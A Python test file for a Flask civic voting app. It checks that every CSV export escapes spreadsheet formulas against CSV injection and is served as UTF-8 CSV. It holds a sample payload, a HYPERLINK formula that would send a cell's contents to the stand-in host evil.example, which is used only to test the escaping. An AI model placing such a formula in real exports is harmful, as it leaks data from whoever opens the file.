"""Every CSV the app serves neutralises formulas (OWASP's CSV injection advice) and says it is
CSV in UTF-8 exactly once."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from civic.accounts.domain import Role
from civic.core.csvfile import safe_cell, write_rows
from civic.core.time import utcnow
from civic.proposals.models import Proposal
from civic.voting.models import VoteResult
from civic.voting.services import counting
from tests.factories.accounts import make_user
from tests.factories.calls import make_voting_call

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Dettagli")'


def test_text_that_a_spreadsheet_would_run_is_written_as_text() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Orto in piazza") == "Orto in piazza"
    assert safe_cell(-5) == -5  # a number stays a number
    assert safe_cell(None) == ""
    rows = list(csv.reader(io.StringIO(write_rows(["title"], [[FORMULA], ["@SUM(A1)"]]))))
    assert rows == [["title"], ["'" + FORMULA], ["'@SUM(A1)"]]


def _published_vote(app: Flask, db: Session) -> str:
    """A vote whose winner is titled with a formula, its results published; the call's slug."""
    staff = make_user(db, roles=(Role.STAFF,))
    with app.test_request_context("/"):
        call, projects = make_voting_call(db, voting_open=False)
        area = sorted(projects)[0]
        winner = projects[area][0]
        proposal = db.get(Proposal, winner)
        assert proposal is not None
        proposal.title = FORMULA
        db.add(
            VoteResult(
                call_id=call.id, area_id=area, rule="greedy", budget_cents=100_000_00,
                winners=[winner], explanation={str(winner): {"score": 3, "reason": "funded"}},
                ballots=3, voters=3, computed_at=utcnow(),
            )
        )  # fmt: skip
        db.flush()
        counting.publish_results(db, staff, call, now=utcnow())
        db.commit()
        return call.slug


def test_no_csv_download_carries_a_live_formula(
    app: Flask, client: FlaskClient, db: Session
) -> None:
    slug = _published_vote(app, db)
    for url in (
        "/opendata/proposals.csv",
        f"/bandi/{slug}/risultati.csv",
        "/dashboard/dati.csv",
    ):
        answer = client.get(url)
        assert answer.status_code == 200, url
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8", url
        cells = [c for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), url
        if "dashboard" not in url:
            assert "'" + FORMULA in cells, url
